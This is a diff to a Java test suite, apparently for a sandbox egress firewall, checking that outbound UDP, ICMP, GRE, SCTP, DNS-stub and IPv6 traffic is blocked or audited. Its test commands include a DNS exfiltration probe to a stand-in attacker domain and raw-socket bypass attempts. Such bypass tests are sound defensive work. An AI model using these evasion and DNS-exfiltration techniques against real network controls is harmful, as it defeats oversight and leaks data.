@@ -164,8 +164,16 @@ abstract class BypassSuite {
 
     @Test
     void udpToARawIp() throws Exception {
-        ExecResult r = runner("bash", "-c", "echo udp-probe | nc -u -w 2 198.18.66.6 9999");
+        long started = System.nanoTime();
+        ExecResult r = runner("bash", "-c", "echo udp-probe | socat -T 5 - UDP:198.18.66.6:9999");
+        long millis = (System.nanoTime() - started) / 1_000_000;
         outcome(r, printed("udp-probe"));
+        if (blocking()) {
+            // the reject rule refuses the datagram as it is sent (sendmsg fails with EPERM, and ICMP
+            // administratively prohibited goes back): socat fails at once, not after its 5 s timeout
+            assertThat(r.stderr()).as(r.describe()).contains("Operation not permitted");
+            assertThat(millis).as("failed after %d ms", millis).isLessThan(2000);
+        }
         flow("198.18.66.6", 9999, "udp", "output", flowVerdict());
     }
 
@@ -221,10 +229,106 @@ abstract class BypassSuite {
 
     @Test
     void icmp() throws Exception {
-        outcome(runner("ping", "-c", "1", "-W", "2", "198.18.66.6"), r -> r.exitCode() == 0);
+        ExecResult v4 = runner("ping", "-c", "1", "-W", "2", "198.18.66.6");
+        outcome(v4, r -> r.exitCode() == 0);
         flow("198.18.66.6", 0, "icmp", "output", flowVerdict());
-        outcome(runner("ping", "-c", "1", "-W", "2", "fd52:7761:6c6c::66:6"), r -> r.exitCode() == 0);
+        ExecResult v6 = runner("ping", "-c", "1", "-W", "2", "fd52:7761:6c6c::66:6");
+        outcome(v6, r -> r.exitCode() == 0);
         flow("fd52:7761:6c6c::66:6", 0, "icmpv6", "output", flowVerdict());
+        if (blocking()) {
+            // refused with ICMP administratively prohibited (ping's words for it), not left to time out
+            assertThat(v4.stdout()).as(v4.describe()).contains("Packet filtered");
+            assertThat(v6.stdout()).as(v6.describe()).contains("Administratively prohibited");
+        }
+    }
+
+    @Test
+    void dnsToALocalStubResolverOnLoopback() throws Exception {
+        // a stub like systemd-resolved's on 127.0.0.53 that forwards to the runner's resolver
+        Process stub = sandbox.processBuilder("socat", "UDP4-RECVFROM:53,bind=127.0.0.53,fork",
+                "UDP4-SENDTO:198.18.0.53:53").redirectErrorStream(true).start();
+        try {
+            awaitUdpListener("127.0.0.53:53", stub);
+            ExecResult r = runner("dig", "+time=2", "+tries=1", "@127.0.0.53", "stub.exfil.attacker.example");
+            outcome(r, printed("status: NXDOMAIN"));
+            ConnectionEvent e = flow("127.0.0.53", 53, "udp", "output", flowVerdict());
+            assertThat(e.reason()).isEqualTo("DNS to a resolver other than the agent");
+            assertThat(sandbox.queryLog().contains("stub.exfil.attacker.example")).as("the name reached the internet")
+                    .isEqualTo(!blocking());
+        } finally {
+            List<ProcessHandle> children = stub.toHandle().descendants().toList();
+            stub.destroyForcibly().waitFor();
+            children.forEach(ProcessHandle::destroyForcibly);
+        }
+    }
+
+    private void awaitUdpListener(String address, Process listener) throws Exception {
+        long deadline = System.nanoTime() + Duration.ofSeconds(5).toNanos();
+        while (!runner("ss", "-Hlun").stdout().contains(address + " ")) {
+            assertThat(listener.isAlive()).as("the listener on " + address + " runs").isTrue();
+            assertThat(System.nanoTime()).as("a listener on " + address + " within 5 s").isLessThan(deadline);
+            Thread.sleep(20);
+        }
+    }
+
+    @Test
+    void otherIpProtocols() throws Exception {
+        // GRE (47) and a well-formed SCTP INIT (132), from raw sockets: no rule lists them, the default decides
+        ExecResult gre = runner("bash", "-c", "echo gre | socat -u - IP4-SENDTO:198.18.66.6:47");
+        outcome(gre, r -> r.exitCode() == 0);
+        flow("198.18.66.6", 0, "47", "output", flowVerdict());
+        ExecResult sctp = runner("bash", "-c", "printf '" + sctpInit() + "' | socat -u - IP6-SENDTO:[fd52:7761:6c6c::66:6]:132");
+        outcome(sctp, r -> r.exitCode() == 0);
+        flow("fd52:7761:6c6c::66:6", 0, "132", "output", flowVerdict());
+        if (blocking()) {
+            assertThat(gre.stderr()).as(gre.describe()).contains("Operation not permitted");
+            assertThat(sctp.stderr()).as(sctp.describe()).contains("Operation not permitted");
+        }
+    }
+
+    /**
+     * An SCTP INIT chunk (RFC 9260 3.3.2) from port 40000 to 9999, as {@code printf} escapes. Conntrack
+     * tracks it as a new flow; a malformed one would be invalid, which block mode drops without logging.
+     */
+    private static String sctpInit() {
+        java.nio.ByteBuffer p = java.nio.ByteBuffer.allocate(32);
+        p.putShort((short) 40000).putShort((short) 9999).putInt(0).putInt(0); // ports, verification tag 0, checksum
+        p.put((byte) 1).put((byte) 0).putShort((short) 20); // INIT, flags, chunk length
+        p.putInt(0x11223344).putInt(65535).putShort((short) 1).putShort((short) 1).putInt(1); // tag, a_rwnd, streams, TSN
+        java.util.zip.CRC32C crc = new java.util.zip.CRC32C();
+        crc.update(p.array());
+        p.order(java.nio.ByteOrder.LITTLE_ENDIAN).putInt(8, (int) crc.getValue());
+        StringBuilder escaped = new StringBuilder();
+        for (byte b : p.array()) {
+            escaped.append(String.format("\\x%02x", b & 0xff));
+        }
+        return escaped.toString();
+    }
+
+    @Test
+    void anInterfaceCreatedAfterTheAgentStarted() throws Exception {
+        // a second link to the internet, made now: a veth whose far end is in the internet namespace
+        String internet = sandbox.internetNamespace();
+        runner("ip", "link", "add", "late0", "type", "veth", "peer", "name", "late1", "netns", internet).requireSuccess();
+        try {
+            runner("ip", "-n", internet, "addr", "add", "198.18.77.1/30", "dev", "late1").requireSuccess();
+            runner("ip", "-n", internet, "-6", "addr", "add", "fd52:7761:6c6c:77::1/64", "dev", "late1", "nodad")
+                    .requireSuccess();
+            runner("ip", "-n", internet, "link", "set", "late1", "up").requireSuccess();
+            runner("ip", "addr", "add", "198.18.77.2/30", "dev", "late0").requireSuccess();
+            runner("ip", "-6", "addr", "add", "fd52:7761:6c6c:77::2/64", "dev", "late0", "nodad").requireSuccess();
+            runner("ip", "link", "set", "late0", "up").requireSuccess();
+            assertThat(runner("ip", "route", "get", "198.18.77.1").requireSuccess().stdout()).contains("dev late0");
+            assertThat(runner("ip", "-6", "route", "get", "fd52:7761:6c6c:77::1").requireSuccess().stdout())
+                    .contains("dev late0");
+
+            outcome(runner("ping", "-c", "1", "-W", "2", "198.18.77.1"), r -> r.exitCode() == 0);
+            flow("198.18.77.1", 0, "icmp", "output", flowVerdict());
+            outcome(runner("ping", "-c", "1", "-W", "2", "fd52:7761:6c6c:77::1"), r -> r.exitCode() == 0);
+            flow("fd52:7761:6c6c:77::1", 0, "icmpv6", "output", flowVerdict());
+        } finally {
+            runner("ip", "link", "del", "late0"); // takes its peer with it
+        }
     }
 
     @Test
@@ -247,14 +351,27 @@ abstract class BypassSuite {
 
     @Test
     void directLookupOfTheCnameTargetOfAnAllowedName() throws Exception {
+        // before anything resolved the allowed name, the target's address is allowed to nobody
+        ExecResult raw = runner("curl", "-sS", "--max-time", "5", "http://198.18.2.20/");
+        outcome(raw, printed("cdn.other.example"));
+        if (blocking()) {
+            assertThat(raw.exitCode()).as("refused at once (TCP reset), not a timeout").isEqualTo(7);
+        }
+        assertThat(flow("198.18.2.20", 80, "tcp", "output", flowVerdict()).domain()).isNull();
+
         ExecResult direct = runner("dig", "+time=2", "+tries=1", "cdn.other.example");
         outcome(direct, printed("status: NOERROR"));
         ExecResult byOwnName = runner("curl", "-sS", "--max-time", "5", "http://cdn.other.example/");
         outcome(byOwnName, printed("cdn.other.example"));
+        // a writer thread appends DNS events after the answers: wait for the dig's A and curl's AAAA question
+        agent.awaitDns("A cdn.other.example", d -> d.domain().equals("cdn.other.example") && d.qtype().equals("A"));
+        agent.awaitDns("AAAA cdn.other.example", d -> d.domain().equals("cdn.other.example") && d.qtype().equals("AAAA"));
         List<DnsEvent> lookups = agent.events().stream().filter(DnsEvent.class::isInstance).map(DnsEvent.class::cast)
                 .filter(d -> d.domain().equals("cdn.other.example")).toList();
-        assertThat(lookups).isNotEmpty().allSatisfy(d -> assertThat(d.verdict())
-                .isEqualTo(blocking() ? Verdict.BLOCKED : Verdict.AUDITED));
+        assertThat(lookups).allSatisfy(d -> {
+            assertThat(d.verdict()).isEqualTo(blocking() ? Verdict.BLOCKED : Verdict.AUDITED);
+            assertThat(d.rcode()).isEqualTo(blocking() ? "NXDOMAIN" : "NOERROR");
+        });
         // reachable through the allowed name, in both modes
         ExecResult through = runner("curl", "-sS", "--max-time", "5", "http://assets.nuget.org/");
         assertThat(through.exitCode()).as(through.describe()).isZero();
@@ -262,6 +379,26 @@ abstract class BypassSuite {
         // audit mode also saw the flow by the target's own name; this one came through the allowed name
         flow("198.18.2.20", 80, "tcp", "output", blocking() ? Verdict.ALLOWED : Verdict.AUDITED,
                 c -> "assets.nuget.org".equals(c.domain()));
+    }
+
+    @Test
+    void anAllowedNameOverIpv6() throws Exception {
+        // the AAAA answer fills the IPv6 part of the allowed set; the kernel must let exactly that through
+        ExecResult r = runner("curl", "-6", "-sS", "--max-time", "5", "http://api.nuget.org:443/");
+        assertThat(r.exitCode()).as(r.describe()).isZero();
+        assertThat(r.stdout()).isEqualTo("api.nuget.org\n");
+        ConnectionEvent allowed = flow("fd52:7761:6c6c::10", 443, "tcp", "output",
+                blocking() ? Verdict.ALLOWED : Verdict.AUDITED);
+        assertThat(allowed.domain()).isEqualTo("api.nuget.org");
+        // the same AAAA on a port the policy does not give the name
+        ExecResult otherPort = runner("curl", "-6", "-sS", "--max-time", "5", "http://api.nuget.org:80/");
+        outcome(otherPort, printed("api.nuget.org"));
+        ConnectionEvent e = flow("fd52:7761:6c6c::10", 80, "tcp", "output", flowVerdict());
+        assertThat(e.domain()).isEqualTo("api.nuget.org");
+        if (blocking()) {
+            assertThat(otherPort.exitCode()).as("refused at once (TCP reset)").isEqualTo(7);
+            assertThat(e.reason()).isEqualTo("port 80 is not allowed for api.nuget.org (allowed: 443)");
+        }
     }
 
     @Test
